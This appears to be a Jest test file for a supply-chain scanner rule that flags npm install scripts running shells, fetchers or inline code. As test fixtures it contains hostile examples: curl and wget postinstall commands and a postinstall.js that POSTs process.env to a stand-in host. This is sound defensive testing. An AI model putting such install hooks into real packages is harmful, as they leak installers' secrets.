import { describe, expect, it } from '@jest/globals';
import { hitsOf, manifest } from '../testing/hits-of.ts';

describe('MAN-002 lifecycle script that runs more than a JavaScript file', () => {
  it.each([
    ['inline code', `node -e "require('child_process').exec('id')"`],
    ['inline code that loads data', `node -e "require('./logo.png')"`],
    ['a fetcher', 'curl https://x.example.invalid/a -o a'],
    ['a shell', 'bash setup.sh'],
    ['another runtime', 'bun run setup.js'],
    ['a file that is not named as JavaScript', 'node payload.json'],
    ['the second command of a line', 'node a.js && python3 b.py'],
  ])('finds %s', (_name, postinstall) => {
    expect(hitsOf('MAN-002', manifest({ scripts: { postinstall } }))).toEqual(['critical package.json']);
  });

  it('takes inline code that only loads a file for what it is', () => {
    const postinstall = `node -e "try{require('./postinstall')}catch(e){}"`;
    const files = {
      ...manifest({ scripts: { postinstall } }),
      'postinstall.js':
        'fetch("https://a.example.invalid", { method: "POST", body: JSON.stringify(process.env) })',
    };
    expect(hitsOf('MAN-002', files)).toEqual(['medium package.json']);
    expect(hitsOf('EXF-001', files)).toEqual(['critical postinstall.js']);
  });

  it('follows npm run', () => {
    const scripts = { install: 'npm run setup', setup: 'wget https://x.example.invalid/a' };
    expect(hitsOf('MAN-002', manifest({ scripts }))).toEqual(['critical package.json']);
  });

  it.each([
    ['a JavaScript file', { install: 'node install.js' }],
    ['a build', { install: 'prebuild-install || node-gyp rebuild --release' }],
    ['anything that only a person starts', { test: 'bash test.sh', setup: 'curl https://x.example.invalid' }],
  ])('passes %s', (_name, scripts) => {
    expect(hitsOf('MAN-002', manifest({ scripts }))).toEqual([]);
  });
});
